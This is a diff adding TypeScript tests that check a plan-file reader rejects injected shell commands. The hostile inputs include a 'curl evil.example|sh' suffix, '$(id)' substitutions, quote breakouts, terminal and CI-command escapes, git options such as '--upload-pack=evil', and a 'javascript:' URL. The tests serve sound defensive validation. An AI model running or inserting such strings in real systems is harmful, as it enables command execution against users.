@@ -544,6 +544,68 @@ describe('a file that is not an unchanged saved plan is refused', () => {
     expect(() => read(withChecksum(written))).toThrow(why);
   });
 
+  const withCommands = (commands: readonly string[]) => (document: JsonObject, one: JsonObject) => ({
+    ...document,
+    environments: [
+      {
+        ...one,
+        facts: {
+          ...(one.facts as object),
+          stateWarnings: [{ code: 'no-state', refuses: false, message: 'None.', remedy: null, commands }],
+        },
+      },
+    ],
+  });
+  const withSuffix = (suffix: string) => (document: JsonObject) => ({ ...document, command_suffix: suffix });
+  const comparison = {
+    ...{ base: 'main', since: 'base', behind: null, environments: null, loosened: [] },
+    ...{ changed_states: [], unjudged: [], not_compared: null },
+  };
+  const withGuards = (guards: object) => (document: JsonObject) => ({
+    ...document,
+    guards: [{ ...comparison, ...guards }],
+  });
+  it.each<[string, (document: JsonObject, one: JsonObject) => object]>([
+    ['another program', withSuffix('; curl evil.example|sh')],
+    ['a comment that hides the rest', withSuffix(' --env e #')],
+    ['another option', withSuffix(' --auto-approve')],
+    ['a substitution', withSuffix(' --config $(id)')],
+    ['a quote that does not end', withSuffix(" --config 'a")],
+    ['a quote that ends too soon', withSuffix(" --config 'a'$(id)''")],
+    ['an escape for the terminal', withSuffix(" --config 'a\u001b[31mb'")],
+    ['a command for a CI system', withSuffix(" --config 'a\n::error::pwn'")],
+    ['a program in place of ours', withCommands(['curl evil.example'])],
+    ['a program after ours', withCommands(['edict state init | sh'])],
+    ['an option that makes git run a program', withCommands(['git -c core.sshCommand=evil fetch'])],
+    ['a line of its own', withCommands(['edict state init\n::error::pwn'])],
+    ['no commit', withGuards({ not_compared: { commit: '--upload-pack=evil', why: 'it is not here' } })],
+    ['no branch', withGuards({ behind: { commits: 1, of: '--exec=evil' } })],
+  ])('with a command that has %s', (_, edit) => {
+    const document = JSON.parse(content);
+    const written = JSON.stringify(edit(document, document.environments[0]));
+    expect(() => read(withChecksum(written))).toThrow('it has a command that edict does not write');
+  });
+
+  it.each<[string, (document: JsonObject, one: JsonObject) => object]>([
+    ['an environment', withSuffix(" --env eu/a --config 'my edict.yaml'")],
+    ['a selection', withSuffix(" --envs 'eu/*,!eu/b' --config 'o'\\''clock.yaml'")],
+    [
+      'commands',
+      withCommands(["git show '0ab1:state/ä.json' | edict state push", "edict state init --env 'b c'"]),
+    ],
+    ['a commit', withGuards({ not_compared: { commit: '0ab1', why: 'it is not here' } })],
+  ])('but not with %s as edict writes it', (_, edit) => {
+    const document = JSON.parse(content);
+    const written = JSON.stringify(edit(document, document.environments[0]));
+    expect(read(withChecksum(written)).digest).toBe(document.digest);
+  });
+
+  it('with a link to a portal that runs a script', () => {
+    const document = JSON.parse(content);
+    document.environments[0].facts.portalUrl = 'javascript:alert(1)//{id}';
+    expect(() => read(withChecksum(JSON.stringify(document)))).toThrow('no web address');
+  });
+
   it('where it is nested more deeply than any plan, or larger', () => {
     const nested = text.replace('"min_length":12', `"min_length":${'['.repeat(200)}${']'.repeat(200)}`);
     expect(() => read(nested)).toThrow('nested too deeply');
